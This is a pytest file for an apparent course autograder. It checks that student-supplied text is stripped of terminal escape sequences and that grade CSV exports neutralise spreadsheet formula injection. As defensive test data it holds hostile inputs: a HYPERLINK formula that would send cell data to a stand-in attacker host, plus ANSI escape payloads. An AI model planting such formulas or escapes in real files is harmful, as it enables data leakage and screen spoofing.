"""What a student's code can put into a message the grader shows: printable, one line."""

import csv

import pytest

from backprop_ninja.course import NOTEBOOKS
from backprop_ninja.grading import Course, autograde_class, export_class
from backprop_ninja.grading.lms import write_canvas_csv
from backprop_ninja.grading.status import FAILED, GRADED, NotebookResult
from backprop_ninja.grading.table import Row, write_notebook_csv
from backprop_ninja.text import one_line, printable


def test_escape_sequences_and_control_characters_are_removed():
    hostile = "ok \x1b[2J\x1b[31mred\x1b[0m \x1b]0;new title\x07 \u202eevil\x00\x08"
    assert printable(hostile) == "ok red  evil"
    assert one_line("a\r\n\tb\x1b[1A") == "a b"


def test_notes_and_reasons_reach_the_table_printable():
    graded = NotebookResult("nb", GRADED, notes=["\x1b[2Jcleared"], withdrawn={"t": "\x07bell"})
    failed = NotebookResult("nb", FAILED, reason="bad \x1b[31mred")
    assert graded.messages() == ["cleared", "t: points withdrawn — bell"]
    assert failed.messages() == ["NOT GRADED (0 points): bad red"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grades")'


def test_no_cell_of_the_grade_csvs_is_read_as_a_formula(tmp_path):
    """A student id (a hub username, an LMS login) is the student's own text: opened in a
    spreadsheet, a CSV cell starting with = would run as a formula."""
    row = Row(
        FORMULA,
        points=dict.fromkeys(NOTEBOOKS, 1.0),
        max_points=dict.fromkeys(NOTEBOOKS, 5.0),
        states=dict.fromkeys(NOTEBOOKS, GRADED),
        notes={nb: ["@SUM(1+1)"] for nb in NOTEBOOKS},
    )
    by_notebook = write_notebook_csv([row], tmp_path / "by_notebook.csv")
    canvas = write_canvas_csv(tmp_path / "canvas.csv", {FORMULA: 4.0}, 20.0, {}, "backprop_ninja")
    for path in (by_notebook, canvas):
        with open(path, newline="", encoding="utf-8") as handle:
            cells = [cell for line in csv.reader(handle) for cell in line]
        assert "'" + FORMULA in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.pipeline
@pytest.mark.sandbox
@pytest.mark.notebooks
def test_a_student_id_that_is_a_formula_stays_text_in_every_export(course_root):
    """The real export, nbgrader's grades.csv included, for a class with such a student."""
    course = Course.load(root=course_root)
    (course.submitted / "=1+2" / "backprop_ninja").mkdir(parents=True)  # nothing submitted
    autograde_class(course, workers=1, progress=False)
    export_class(course)
    for path in (course.grades_csv, course.notebook_grades_csv, course.canvas_csv):
        with open(path, newline="", encoding="utf-8") as handle:
            cells = [cell for line in csv.reader(handle) for cell in line]
        assert "'=1+2" in cells, path.name
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], path.name
